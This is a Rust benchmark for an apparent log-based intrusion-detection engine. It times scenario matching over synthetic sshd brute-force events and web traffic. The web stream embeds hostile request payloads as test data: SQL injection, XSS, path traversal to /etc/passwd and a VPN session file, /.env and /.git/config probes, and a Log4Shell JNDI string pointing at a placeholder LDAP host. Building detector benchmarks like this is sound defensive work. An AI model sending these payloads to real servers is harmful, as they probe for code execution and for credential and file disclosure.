//! Scenario engine throughput on the built-in scenarios, in observations per second, for an sshd
//! stream (the replay path's hot case) and a mixed web stream (normal traffic with scanners, injection
//! probes and CVE payloads). Run: `cargo bench -p sentinel-detect --bench scenarios`.
//!
//! A plain timing harness (no statistics framework): each stream is built once, then run through a
//! fresh engine `ROUNDS` times; the best round is printed, with the alerts it raised.
#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

use sentinel_detect::scenario::{parse_scenarios, BUILTIN};
use sentinel_detect::{EngineOptions, ScenarioEngine};
use std::net::{IpAddr, Ipv4Addr};
use std::time::Instant;

const ROUNDS: usize = 5;

#[path = "../tests/common/mod.rs"]
mod common;
use common::Obs;

/// A small deterministic generator (xorshift), so runs compare.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

fn v4(n: u64) -> IpAddr {
    IpAddr::V4(Ipv4Addr::from(0x0A00_0000 | (n as u32 & 0x00FF_FFFF)))
}

/// 1,000,000 sshd observations over a day: 1,000 attackers (failures, invalid users, probes) among
/// 10,000 benign sources (successes, an occasional typo).
fn sshd_stream() -> Vec<Obs> {
    let mut r = Rng(0x5eed);
    let users = [
        "root", "admin", "test", "ubuntu", "oracle", "git", "alice", "bob",
    ];
    (0..1_000_000i64)
        .map(|i| {
            let ts = i * 86;
            let attacker = r.below(10) < 3;
            let src = if attacker {
                r.below(1000)
            } else {
                1000 + r.below(10_000)
            };
            let (kind, fields) = if attacker {
                match r.below(10) {
                    0..=5 => (
                        "auth_failure",
                        vec![("user", users[r.below(6) as usize].to_string())],
                    ),
                    6 | 7 => ("invalid_user", vec![("user", format!("u{}", r.below(500)))]),
                    8 => ("protocol_probe", vec![("probe", "kex_ident".to_string())]),
                    _ => ("preauth_disconnect", vec![]),
                }
            } else {
                match r.below(20) {
                    0 => (
                        "auth_failure",
                        vec![("user", users[6 + r.below(2) as usize].to_string())],
                    ),
                    _ => (
                        "auth_success",
                        vec![("user", users[6 + r.below(2) as usize].to_string())],
                    ),
                }
            };
            Obs {
                ts,
                kind,
                service: "sshd",
                ip: v4(src),
                fields,
            }
        })
        .collect()
}

/// 500,000 web requests: 5,000 visitors browsing pages, assets, searches and the API; 50 scanners
/// sending probes, sensitive-file requests, injection payloads and CVE exploits.
fn web_stream() -> Vec<Obs> {
    let mut r = Rng(0xbeef);
    let attacks = [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/index.php?id=1%20UNION%20SELECT%20NULL,NULL--",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/?x=${jndi:ldap://198.51.100.9/a}",
        "/phpmyadmin/index.php",
        "/shell.php",
        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    ];
    let pages = [
        "/",
        "/products/1234",
        "/search?q=O%27Brien+select+committee&page=2",
        "/category/shoes?sort=price&order=asc",
        "/api/v1/items?page=3&limit=20",
        "/static/css/site.css",
        "/static/js/app.8f3a.js",
        "/img/p/991.webp",
        "/fonts/inter.woff2",
        "/blog/union-select-explained",
    ];
    (0..500_000i64)
        .map(|i| {
            let ts = i * 20;
            let attacker = r.below(100) < 5;
            let (src, path, status, ua) = if attacker {
                let p = attacks[r.below(attacks.len() as u64) as usize];
                let p = format!("{p}{}", if r.below(2) == 0 { String::new() } else { format!("&n={}", r.below(1000)) });
                (r.below(50), p, ["404", "403", "200", "400"][r.below(4) as usize], "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")
            } else {
                let p = pages[r.below(pages.len() as u64) as usize].to_string();
                (
                    100 + r.below(5000),
                    p,
                    if r.below(50) == 0 { "404" } else { "200" },
                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
                )
            };
            Obs {
                ts,
                kind: "http_request",
                service: "nginx",
                ip: v4(src),
                fields: vec![
                    ("method", if r.below(10) == 0 { "POST" } else { "GET" }.to_string()),
                    ("path", path),
                    ("status", status.to_string()),
                    ("bytes", "1024".to_string()),
                    ("vhost", "www.example.org".to_string()),
                    ("user_agent", ua.to_string()),
                    ("referer", "https://www.example.org/".to_string()),
                ],
            }
        })
        .collect()
}

fn measure(name: &str, stream: &[Obs]) {
    let mut defs = parse_scenarios("builtin", BUILTIN).unwrap();
    // BENCH_DISABLE=a,b leaves scenarios out (to see what each costs).
    if let Ok(off) = std::env::var("BENCH_DISABLE") {
        for d in &mut defs {
            if off.split(',').any(|n| n == d.name) {
                d.enabled = false;
            }
        }
    }
    let mut best = f64::MAX;
    let mut alerts = 0;
    for _ in 0..ROUNDS {
        let mut e = ScenarioEngine::new(defs.clone(), EngineOptions::default());
        let mut out = Vec::new();
        let t = Instant::now();
        for o in stream {
            e.observe(o, None, &mut out);
        }
        let secs = t.elapsed().as_secs_f64();
        best = best.min(secs);
        alerts = out.len();
        if std::env::var_os("BENCH_VERBOSE").is_some() {
            eprintln!("{name}: {:?}", e.stats().alerts);
        }
    }
    println!(
        "{name:<8} {:>9} observations  best of {ROUNDS}: {:>7.1} ms  {:>12.0} obs/s  {alerts} alerts",
        stream.len(),
        best * 1e3,
        stream.len() as f64 / best
    );
}

fn main() {
    // `cargo bench … -- sshd` or `-- web` runs one stream only.
    let only = std::env::args().skip(1).find(|a| !a.starts_with('-'));
    if only.as_deref().is_none_or(|o| o == "sshd") {
        measure("sshd", &sshd_stream());
    }
    if only.as_deref().is_none_or(|o| o == "web") {
        measure("web", &web_stream());
    }
}
